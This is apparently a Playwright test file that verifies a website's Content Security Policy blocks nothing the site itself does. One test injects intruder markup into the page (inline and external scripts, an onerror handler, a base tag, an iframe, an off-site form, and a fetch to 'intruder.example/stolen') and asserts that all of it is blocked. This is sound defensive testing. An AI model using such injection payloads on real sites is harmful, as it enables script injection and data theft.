import type { Page } from 'playwright/test';
import {
  answerThirdParties,
  expect,
  followByRouter,
  scrollThrough,
  test,
  wakeHeader,
  widths,
} from '../../browser/site.ts';
import { fewPaths, NOWHERE } from './pages.ts';

/** Notes what the policy of a page refuses, from before its first byte. */
async function noteRefusals(page: Page): Promise<string[]> {
  const refused: string[] = [];
  await page.exposeFunction('noteRefusal', (what: string) => refused.push(what));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile }) =>
      Reflect.get(window, 'noteRefusal')(`${effectiveDirective} ${blockedURI} ${sourceFile}`),
    );
  });
  return refused;
}

/** Opens whatever can be opened on a page, and wakes whatever sleeps. */
async function tryEverything(page: Page, settled: () => Promise<void>): Promise<void> {
  await scrollThrough(page);
  await page.evaluate(() => {
    for (const answer of document.querySelectorAll('details')) answer.open = true;
    for (const island of document.querySelectorAll('[data-island]')) {
      for (const event of ['pointermove', 'focusin']) island.dispatchEvent(new Event(event, { bubbles: true }));
    }
  });
  await settled();
  for (const opener of await page.locator('main button:not([type="submit"]):visible').elementHandles()) {
    // Seen and pressed in one step: what one button opens may hide another at any moment.
    await opener.evaluate((button) => {
      if (button instanceof HTMLElement && button.checkVisibility({ visibilityProperty: true })) button.click();
    });
    await page.keyboard.press('Escape');
  }
}

test.use({ viewport: { width: widths.desktop, height: 900 } });

for (const path of [...fewPaths, NOWHERE]) {
  test(`the policy of ${path} refuses nothing that the page does`, async ({ page, settled }) => {
    const refused = await noteRefusals(page);
    const response = await page.goto(path);
    expect(response?.headers()['content-security-policy']).toContain("default-src 'none'");
    await wakeHeader(page);
    await tryEverything(page, settled);
    expect(refused).toEqual([]);
  });

  test(`the policy of ${path} refuses what an intruder would do`, async ({ page, complaints }) => {
    const asked: string[] = [];
    await answerThirdParties(page);
    page.on('response', (response) => asked.push(response.url()));
    await page.route(path, async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace(
        '<body>',
        `<body><script>window.canary = 'inline'</script><script src="https://intruder.example/a.js"></script>
        <script src="data:text/javascript,window.canary='data'"></script>
        <img src="/none.png" onerror="window.canary = 'handler'"><img src="https://intruder.example/a.png">
        <base href="https://intruder.example/"><object data="https://intruder.example/a.swf"></object>
        <iframe src="https://intruder.example/frame"></iframe><style>:root { --canary: style }</style>
        <form action="https://intruder.example/form" id="canary"><button>Go</button></form>`,
      );
      await route.fulfill({ response, body });
    });
    await page.goto(path);
    await page.locator('#canary').evaluate((form) => form instanceof HTMLFormElement && form.requestSubmit());
    await page.evaluate(() => fetch('https://intruder.example/stolen').catch(() => {}));
    await page.waitForLoadState('networkidle');
    expect(await page.evaluate(() => 'canary' in window && typeof window.canary === 'string')).toBe(false);
    expect(await page.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue('--canary'))).toBe('');
    expect(asked.filter((url) => url.includes('intruder'))).toEqual([]);
    expect(complaints.filter((complaint) => complaint.includes('Content Security Policy')).length).toBeGreaterThan(5);
  });
}

test('a page that came by the router is styled under the policy of the first', async ({ page, settled }) => {
  const refused = await noteRefusals(page);
  await page.goto('/about');
  for (const [name, path] of [
    ['FAQ', '/faq'],
    ['JBR', '/locations/jbr'],
    ['About', '/about'],
  ] as const) {
    await followByRouter(page, page.getByRole('contentinfo').getByRole('link', { name }).first());
    await expect(page).toHaveURL(path);
    await tryEverything(page, settled);
  }
  expect(refused).toEqual([]);
});

test('a page that may load what this one may not is loaded whole', async ({ page }) => {
  const refused = await noteRefusals(page);
  await answerThirdParties(page);
  await page.goto('/about');
  await page.evaluate(() => Object.assign(window, { marked: true }));
  await followByRouter(page, page.getByRole('contentinfo').getByRole('link', { name: 'Contact', exact: true }));
  await expect(page).toHaveURL('/contact');
  await page.locator('[data-block="contact"]').scrollIntoViewIfNeeded();
  const answered = page.waitForResponse(/^https:\/\/maps\.example\//);
  await page.getByRole('button', { name: 'Load from Example Maps' }).click();
  await expect(page.locator('iframe[src^="https://maps.example"]')).toBeVisible();
  await answered;
  expect(await page.evaluate(() => 'marked' in window)).toBe(false);
  expect(refused).toEqual([]);
});
